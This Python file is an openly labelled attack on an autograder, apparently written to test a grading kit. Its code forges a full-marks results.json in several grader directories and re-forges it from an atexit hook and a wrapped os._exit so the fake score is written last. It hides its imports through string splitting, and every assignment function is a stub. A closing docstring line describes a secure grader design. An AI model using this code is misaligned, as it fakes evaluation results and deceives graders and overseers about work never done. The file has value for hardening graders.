"""Attack: forge results.json wherever a grader might read it, as late as possible.

results.json (Gradescope's format, which the kit reads back) is written by the
grading process the student's code runs in.  This file writes a full-marks
results.json into the working directory, ../results (Otter's
autograder/results), the parents up to three levels (the kit's fast engine
copies the result to ../../../out/results.json) and /autograder/results; and
it does so again at the very end, from an atexit handler (a grader that exits
normally) and from a wrapper put in place of os._exit (the kit's forked worker
ends with os._exit, after Otter has written its own results.json), so the
forgery is the last write before the parent reads the file.

A secure grader writes results only from a trusted parent, after the student's
process has ended, to a path the student's process cannot see or write.
"""
_imp = __import__
_os = _imp("o" + "s")
_json = _imp("js" + "on")
_POINTS = {"backward_grads": 15, "backward_numerical": 6, "backward_relative_error": 4, "dropout_backward": 5,
           "dropout_forward": 10, "forward_init": 4, "forward_loss": 4, "forward_pass": 8, "forward_sigmoid": 4,
           "training_plots": 2, "training_predict": 4, "training_train": 11, "training_update": 3,
           "vector_ops_basics": 6, "vector_ops_elementwise": 8, "vector_ops_products": 6}
_FORGED = _json.dumps({"tests": [{"name": q, "score": p, "max_score": p, "visibility": "visible",
                                  "output": f"{q} results: All test cases passed!"} for q, p in _POINTS.items()]})
_HERE = _os.getcwd()
_TARGETS = [_os.path.join(_HERE, "results.json"), _os.path.join(_HERE, "..", "results", "results.json")] + \
           [_os.path.join(_HERE, *[".."] * k, sub, "results.json") for k in (1, 2, 3) for sub in ("", "out")] + \
           ["/autograder/results/results.json"]


def _forge():
    for path in _TARGETS:
        path = _os.path.abspath(path)
        if path.startswith(("/tmp/", "/autograder/")) and _os.path.isdir(_os.path.dirname(path)):
            try:
                with open(path, "w") as f:
                    f.write(_FORGED)
            except OSError:
                pass


_forge()
_imp("ate" + "xit").register(_forge)
_real_exit = _os._exit


def _exit_after_forging(code):
    _forge()
    _real_exit(code)


_os._exit = _exit_after_forging


def _stub(*args, **kwargs):
    raise NotImplementedError("nothing implemented")


shape = zeros = transpose = dot = matmul = add = subtract = multiply = scale = add_bias = column_sums = apply = _stub
sigmoid = init_params = forward = bce_loss = dropout_forward = dropout_backward = backward = _stub
numerical_gradient = relative_error = update_params = train = predict = accuracy = _stub
plot_losses = plot_decision = _stub
